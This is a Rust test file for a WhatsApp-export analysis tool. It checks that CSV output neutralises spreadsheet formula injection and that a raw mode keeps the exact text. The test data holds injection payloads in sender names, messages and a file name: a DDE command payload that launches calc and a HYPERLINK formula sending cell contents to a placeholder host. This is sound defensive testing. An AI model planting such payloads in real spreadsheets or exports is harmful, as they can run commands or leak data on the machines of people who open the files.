//! Every CSV the tool writes is safe to open in a spreadsheet: a message or a sender name
//! that a spreadsheet would run as a formula (`=HYPERLINK(...)`, `=cmd|' /C calc'!A0`, a
//! leading `+`, `-`, `@`) comes out with a leading `'` in `analyze`'s three tables and in
//! `parse --to csv` and `score --to csv`; `--raw-csv` writes the exact text instead.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

const LINK: &str = "=HYPERLINK(\"http://x\"&A1,\"click\")";
const CMD_SENDER: &str = "=cmd|' /C calc'!A0";
const OTHERS: [&str; 3] = ["+1+2", "-3+4", "@SUM(A1:A2)"];

fn temp(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("pushpull-csv-{}-{name}", std::process::id()));
    let _ = fs::remove_dir_all(&dir);
    dir
}

/// A WhatsApp export whose sender names and messages carry formula payloads.
fn hostile_export(dir: &Path) -> PathBuf {
    fs::create_dir_all(dir).unwrap();
    let mut text = String::new();
    for day in 1..=28 {
        text.push_str(&format!("2/{day}/24, 9:41 PM - {CMD_SENDER}: {LINK}\n"));
        text.push_str(&format!(
            "2/{day}/24, 9:50 PM - @Bea: {}\n",
            OTHERS[day % 3]
        ));
        text.push_str(&format!("2/{day}/24, 10:05 PM - {CMD_SENDER}: ok then\n"));
    }
    let path = dir.join("WhatsApp Chat with =Bea.txt");
    fs::write(&path, text).unwrap();
    path
}

fn run(args: &[&str], input: &Path, extra: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_pushpull"))
        .args(args)
        .arg(input)
        .args(extra)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Every cell of a CSV, with its column name.
fn cells(csv_text: &str) -> Vec<(String, String)> {
    let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let mut out = Vec::new();
    for rec in rdr.records() {
        for (h, v) in headers.iter().zip(rec.unwrap().iter()) {
            out.push((h.to_string(), v.to_string()));
        }
    }
    out
}

/// No cell would run as a formula (numbers such as `-0.25` are numbers, not formulas), and
/// the payloads are still there, quoted.
fn assert_neutralised(name: &str, csv_text: &str) {
    let cells = cells(csv_text);
    for (column, value) in &cells {
        let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(
            !formula || value.parse::<f64>().is_ok(),
            "{name}: {column} = {value:?} would run as a formula"
        );
    }
    let has = |want: &str| cells.iter().any(|(_, v)| v == want);
    assert!(
        has(&format!("'{LINK}")) || !csv_text.contains("HYPERLINK"),
        "{name}: message payload missing"
    );
    assert!(
        csv_text.contains(&format!("'{CMD_SENDER}")),
        "{name}: sender payload missing"
    );
}

#[test]
fn analyze_tables_neutralise_formulas_unless_raw_csv() {
    let input = hostile_export(&temp("in-analyze"));
    let out = temp("out-analyze");
    run(
        &["analyze"],
        &input,
        &["-o", out.to_str().unwrap(), "--quiet", "--format", "csv"],
    );
    for table in ["messages.csv", "participants.csv", "conversations.csv"] {
        assert_neutralised(table, &fs::read_to_string(out.join(table)).unwrap());
    }
    let messages = fs::read_to_string(out.join("messages.csv")).unwrap();
    assert!(cells(&messages)
        .iter()
        .any(|(c, v)| c == "text" && v == &format!("'{LINK}")));
    for payload in OTHERS {
        assert!(messages.contains(&format!("'{payload}")), "{payload}");
    }

    let raw = temp("out-analyze-raw");
    run(
        &["analyze"],
        &input,
        &[
            "-o",
            raw.to_str().unwrap(),
            "--quiet",
            "--format",
            "csv",
            "--raw-csv",
        ],
    );
    let messages = fs::read_to_string(raw.join("messages.csv")).unwrap();
    let cells = cells(&messages);
    assert!(
        cells.iter().any(|(c, v)| c == "text" && v == LINK),
        "--raw-csv keeps the exact text"
    );
    assert!(cells.iter().any(|(c, v)| c == "sender" && v == CMD_SENDER));
}

#[test]
fn parse_and_score_csv_neutralise_formulas_unless_raw_csv() {
    let input = hostile_export(&temp("in-parse"));
    for command in ["parse", "score"] {
        let safe = run(&[command], &input, &["--to", "csv"]);
        assert_neutralised(command, &safe);
        let raw = run(&[command], &input, &["--to", "csv", "--raw-csv"]);
        let cells = cells(&raw);
        assert!(
            cells.iter().any(|(c, v)| c == "text" && v == LINK),
            "{command} --raw-csv"
        );
        assert!(
            cells.iter().any(|(c, v)| c == "sender" && v == CMD_SENDER),
            "{command} --raw-csv"
        );
        // JSON Lines is always exact.
        let jsonl = run(&[command], &input, &[]);
        assert!(
            jsonl.contains(&serde_json::to_string(LINK).unwrap()),
            "{command} jsonl"
        );
    }
}
